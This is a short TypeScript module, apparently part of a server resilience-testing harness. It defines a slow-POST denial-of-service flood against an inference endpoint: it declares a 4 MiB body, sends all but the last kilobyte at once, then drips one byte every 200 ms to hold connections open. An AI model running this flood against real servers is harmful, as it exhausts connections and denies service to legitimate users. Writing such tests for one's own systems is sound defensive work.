import { holdConnections } from '../held-connections.ts';
import type { Flood } from '../kind.ts';
import { numbers } from '../models.ts';
import { inferOf } from '../request-flood.ts';

/** All but the end of a large body at once, then a byte now and then. */
export const slowBodies: Flood = {
  name: 'slow-bodies',
  about: 'large bodies whose last kilobyte comes byte by byte',
  perSecond: 5,
  prepare: (target, attacker) =>
    holdConnections(target, attacker, {
      method: 'POST',
      path: inferOf(numbers.name),
      headers: {
        'content-type': 'application/octet-stream',
        'inference-header-content-length': '0',
        'content-length': String(4 * 1024 * 1024),
      },
      first: new Uint8Array(4 * 1024 * 1024 - 1024),
      more: { bytes: Uint8Array.of(0), everyMs: 200 },
    }),
};
